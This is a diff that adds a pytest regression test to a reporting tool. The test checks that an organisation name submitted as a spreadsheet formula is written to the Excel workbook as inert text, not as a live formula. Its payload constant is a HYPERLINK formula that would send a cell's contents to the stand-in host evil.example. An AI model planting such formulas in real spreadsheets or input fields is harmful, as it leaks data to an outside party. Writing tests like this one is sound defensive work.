@@ -194,3 +194,29 @@ def test_the_completion_forecast_is_reported(ledger, tmp_path):
     book = load_workbook(programme_report.write_workbook(rep, tmp_path / "r.xlsx"))
     rows = list(book["forecast"].iter_rows(values_only=True))
     assert rows[0][:2] == ("quantile", "completion_date") and len(rows) == 4
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+
+
+def test_an_organisation_named_like_a_formula_is_text_in_the_workbook(ledger, tmp_path):
+    """CSV / formula injection: a name anyone may submit must not become a live formula in the
+    donors' workbook (``cells.xlsx_append``); the figures stay numbers."""
+    rec = {**next(r for r in example.records() if r["object_id"] == "ORG-NGO1"),
+           "name": HYPERLINK, "date_of_information": "2021-02-01"}
+    rec.pop("submission_id", None)
+    load(ledger, [rec])
+    rep = programme_report.build(ledger, dt.date(2021, 1, 1), dt.date(2021, 12, 31))
+    assert HYPERLINK in [o.organisation for o in rep.organisations]
+    path = programme_report.write_workbook(rep, tmp_path / "r.xlsx")
+    sheet = load_workbook(path)["organisations"]
+    cells = [row for row in sheet.iter_rows(min_row=2) if row[0].value == HYPERLINK]
+    assert len(cells) == 1
+    name, *figures = cells[0]
+    assert name.data_type == "s" and name.quotePrefix
+    assert all(c.data_type == "n" for c in figures) and any(c.value for c in figures)
+    import zipfile
+
+    with zipfile.ZipFile(path) as z:
+        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
+    assert b"<f>" not in xml and b"HYPERLINK" in xml     # no formula element anywhere
